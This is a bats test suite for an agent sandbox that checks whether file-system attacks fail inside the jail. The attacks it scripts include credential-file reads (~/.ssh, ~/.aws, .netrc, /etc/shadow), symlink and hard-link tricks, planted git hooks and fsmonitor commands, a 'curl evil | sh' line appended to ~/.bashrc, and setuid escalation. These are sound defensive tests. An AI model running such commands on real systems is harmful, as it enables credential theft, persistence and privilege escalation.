#!/usr/bin/env bats
# Attacks on the file system: secrets in $HOME, the signing key, writes
# outside the project, .gleisner/, .git, link tricks, set-id files.

load attack

a_ssh() {
	injail 'exec 2>/dev/null; cat ~/.ssh/id_ed25519; ls -A ~/.ssh 2>/dev/null; cat ~/.ssh/*'
	absent ssh-secret
	absent id_ed25519
}
@test "attack: cat and ls of ~/.ssh reveal no key" { as_both a_ssh; }

a_aws() {
	injail 'cat ~/.aws/credentials; cat ~/.aws/*'
	absent aws-secret
}
@test "attack: ~/.aws/credentials cannot be read" { as_both a_aws; }

a_netrc() {
	injail 'cat ~/.netrc'
	absent netrc-secret
	JP=ashton-laval injail 'cat ~/.netrc'
	absent netrc-secret
}
@test "attack: ~/.netrc cannot be read (konishi and ashton-laval)" { as_both a_netrc; }

a_npmrc() {
	injail 'cat ~/.npmrc'
	absent npmrc-secret
	JP=ashton-laval injail 'cat ~/.npmrc'
	absent npmrc-secret
}
@test "attack: ~/.npmrc cannot be read (konishi and ashton-laval)" { as_both a_npmrc; }

a_gitcred() {
	injail 'cat ~/.git-credentials; git config --global credential.helper'
	absent gitcred-secret
}
@test "attack: ~/.git-credentials cannot be read" { as_both a_gitcred; }

a_key() {
	# a profile that shows ~/.config read-only still hides the key
	printf 'include = konishi\n[filesystem]\nreadonly_bind = %s/.config\n' "$HOME" > "$T/cfg.ini"
	JP=$T/cfg.ini injail 'exec 2>/dev/null; cat ~/.config/gleisner/keys/local.pem; ls -A ~/.config/gleisner/keys 2>/dev/null; find ~/.config -name "*.pem" 2>/dev/null'
	absent signing-secret
	absent local.pem
}
@test "attack: the signing key cannot be read or listed, even with ~/.config bound" { as_both a_key; }

a_symlink_host() {
	# a link planted in the project (by an earlier session, a cloned repo)
	ln -s "$HOME/.ssh/id_ed25519" "$P/key-link"
	ln -s "$HOME/.ssh" "$P/ssh-link"
	ln -s "$HOME/.config/gleisner/keys" "$P/keys-link"
	injail 'cat key-link; ls -la ssh-link/; cat ssh-link/id_ed25519; cat keys-link/local.pem'
	absent ssh-secret
	absent signing-secret
}
@test "attack: a symlink from the project to ~/.ssh or the keys reads nothing" { as_both a_symlink_host; }

a_symlink_inside() {
	injail 'ln -s ~/.ssh/id_ed25519 in-link; cat in-link; ln -s /proc/1/root/home in-root; ls in-root/'
	absent ssh-secret
	# the links the agent left behind lead nowhere for the next reader either
	[ ! -e "$P/in-link" ] || [ "$(readlink "$P/in-link")" = "$HOME/.ssh/id_ed25519" ]
}
@test "attack: a symlink made inside to ~/.ssh reads nothing" { as_both a_symlink_inside; }

a_hardlink_masked() {
	echo token-secret > "$P/token.txt"
	[ -z "$AS" ] || chown 65534:65534 "$P/token.txt"
	printf 'include = konishi\n[filesystem]\ndeny = %s/token.txt\n' "$P" > "$T/deny.ini"
	JP=$T/deny.ini injail 'ln token.txt t2; cat t2; ln -P token.txt t3; cat t3; cat token.txt; true'
	absent token-secret
	for f in t2 t3; do
		[ ! -e "$P/$f" ] || ! grep -q token-secret "$P/$f"
	done
}
@test "attack: hard-linking a masked file in the project reveals nothing" { as_both a_hardlink_masked; }

a_hardlink_gleisner() {
	mkdir -p "$P/.gleisner"
	echo log > "$P/.gleisner/audit-1.jsonl"
	[ -z "$AS" ] || chown -R 65534:65534 "$P/.gleisner"
	injail 'ln .gleisner/audit-1.jsonl a; echo forged >> a; ln -s .gleisner/audit-1.jsonl s; echo forged >> s; true'
	[ "$(cat "$P/.gleisner/audit-1.jsonl")" = log ]
}
@test "attack: a hard link or symlink to a .gleisner file does not let it be written" { as_both a_hardlink_gleisner; }

a_gleisner() {
	mkdir -p "$P/.gleisner"
	echo log > "$P/.gleisner/audit-1.jsonl"
	[ -z "$AS" ] || chown -R 65534:65534 "$P/.gleisner"
	injail 'echo forged >> .gleisner/audit-1.jsonl; rm -f .gleisner/audit-1.jsonl;
		mv .gleisner g2; rm -rf .gleisner; mkdir -p x && mv x .gleisner;
		touch .gleisner/attestation-0.json; chmod 777 .gleisner; true'
	[ "$(cat "$P/.gleisner/audit-1.jsonl")" = log ]
	[ ! -e "$P/.gleisner/attestation-0.json" ]
	[ ! -e "$P/g2" ]
	[ "$(stat -c %a "$P/.gleisner")" = 755 ]
}
@test "attack: appending to, removing or replacing .gleisner/ changes nothing" { as_both a_gleisner; }

a_hooks() {
	injail 'printf "#!/bin/sh\necho pwned\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;
		mv .git/hooks .git/h2; mkdir .git/hooks2; true'
	[ ! -e "$P/.git/hooks/pre-commit" ]
	[ -d "$P/.git/hooks" ]
	[ ! -e "$P/.git/h2" ]
}
@test "attack: planting .git/hooks/pre-commit leaves no hook on the host" { as_both a_hooks; }

a_gitconfig() {
	injail 'printf "[core]\n\thooksPath = /tmp/evil\n\tfsmonitor = touch /tmp/pwned\n" >> .git/config; git config core.hooksPath /tmp/evil; true'
	[ "$(cat "$P/.git/config")" = "[core]" ]
}
@test "attack: rewriting .git/config (hooksPath, fsmonitor) changes nothing" { as_both a_gitconfig; }

a_hooks_absent() {
	rm -rf "$P/.git/hooks"
	JREPORT=$T/r.json injail 'mkdir -p .git/hooks; echo "echo pwned" > .git/hooks/post-checkout; true'
	# gl-jail makes the missing hooks directory (empty, on the host) and
	# binds it read-only: nothing planted, and the report says so
	[ -d "$P/.git/hooks" ] && [ -z "$(ls -A "$P/.git/hooks")" ]
	jq -e --arg p "$P/.git/hooks" '(.filesystem.created | index($p) != null) and (.filesystem.protected | index($p) != null)' "$T/r.json"
}
@test "attack: creating .git/hooks where none existed plants nothing" { as_both a_hooks_absent; }

a_env_created() {
	printf 'include = konishi\n[filesystem]\ndeny = %s/.env\n' "$P" > "$T/env.ini"
	[ ! -e "$P/.env" ]
	JP=$T/env.ini JREPORT=$T/r.json injail 'echo API_KEY=made-inside > .env; cat .env'
	# the deny entry did not exist, so it could not be masked: the host-side
	# report says so, and names the path
	jq -e --arg p "$P/.env" '.filesystem.unmasked | map(.path) | index($p) != null' "$T/r.json"
	jq -e --arg p "$P/.env" '[.filesystem.masked[]? | .path] | index($p) == null' "$T/r.json"
	grep -q made-inside "$P/.env"
	# once it exists, the next session masks it
	JP=$T/env.ini JREPORT=$T/r2.json injail 'cat .env'
	absent made-inside
	jq -e --arg p "$P/.env" '[.filesystem.masked[] | .path] | index($p) != null' "$T/r2.json"
}
@test "attack: creating a denied .env that did not exist is reported as unmasked" { as_both a_env_created; }

a_bashrc() {
	injail 'echo "curl evil | sh" >> ~/.bashrc; echo evil > ~/.profile; mkdir -p ~/.config/autostart; echo x > ~/.config/autostart/x.desktop; cat ~/.bashrc'
	[ "$(cat "$HOME/.bashrc")" = host-rc ]
	[ ! -e "$HOME/.profile" ]
	[ ! -e "$HOME/.config/autostart" ]
	absent host-rc
}
@test "attack: writing ~/.bashrc and ~/.profile inside does not reach the host's" { as_both a_bashrc; }

a_write_outside() {
	injail "echo x > /etc/gl-escape; echo x > /usr/gl-escape; echo x > $T/outside/new;
		echo x >> $T/outside/secret; echo x > /tmp/gl-escape-$$; mkdir $T/newdir; echo x > ../escape; true"
	[ ! -e /etc/gl-escape ]
	[ ! -e /usr/gl-escape ]
	[ ! -e "$T/outside/new" ]
	[ "$(cat "$T/outside/secret")" = outside-secret ]
	[ ! -e "/tmp/gl-escape-$$" ]
	[ ! -e "$T/newdir" ]
	[ ! -e "$T/escape" ]
}
@test "attack: writing outside the project (/etc, /usr, /tmp, a sibling, ..) changes nothing" { as_both a_write_outside; }

a_shadow() {
	injail 'cat /etc/shadow; grep root: /etc/shadow; true'
	absent 'root:'
}
@test "attack: /etc/shadow cannot be read, also when the caller is root" { as_both a_shadow; }

a_fd_leak() {
	exec 9<"$HOME/.ssh/id_ed25519"
	injail 'cat <&9; cat /proc/self/fd/9; true'
	exec 9<&-
	absent ssh-secret
}
@test "attack: a descriptor on ~/.ssh/id_ed25519 inherited from the caller is not usable" { as_both a_fd_leak; }

a_setuid() {
	# a setuid-root id in the project, made by root on the host
	cp /usr/bin/id "$P/suid-id"
	chown 0:0 "$P/suid-id"
	chmod 4755 "$P/suid-id"
	injail './suid-id -u; ./suid-id -un'
	[[ "$output" != *$'\n0\n'* ]]
	[[ "$output" != *root* ]]
	[[ "$(sed -n 2p <<<"$output")" =~ ^[1-9][0-9]*$ ]]
}
@test "attack: a setuid-root copy of id in the project gains nothing (nosuid)" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to make a setuid-root file"
	as_both a_setuid
}

a_filecap() {
	cp /usr/bin/cat "$P/capcat"
	setcap cap_dac_read_search+ep "$P/capcat"
	injail './capcat /etc/shadow; true'
	absent 'root:'
}
@test "attack: a copy of cat with cap_dac_read_search reads no /etc/shadow" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to set a file capability"
	command -v setcap >/dev/null || skip "setcap is not installed"
	as_both a_filecap
}

a_setuid_left() {
	injail 'cp /usr/bin/id mine-id; chmod 6755 mine-id; cp /usr/bin/id mine2; chmod u+s mine2; true'
	local f bad=
	for f in "$P/mine-id" "$P/mine2"; do
		[ ! -e "$f" ] || [ -z "$(find "$f" -perm /6000)" ] || bad="$bad $(stat -c '%n %A uid=%u' "$f")"
	done
	[ -z "$bad" ] || known_gap seccomp "chmod u+s inside leaves a set-id file on the host:$bad"
}
@test "attack: chmod u+s inside leaves no set-id file on the host" { as_both a_setuid_left; }
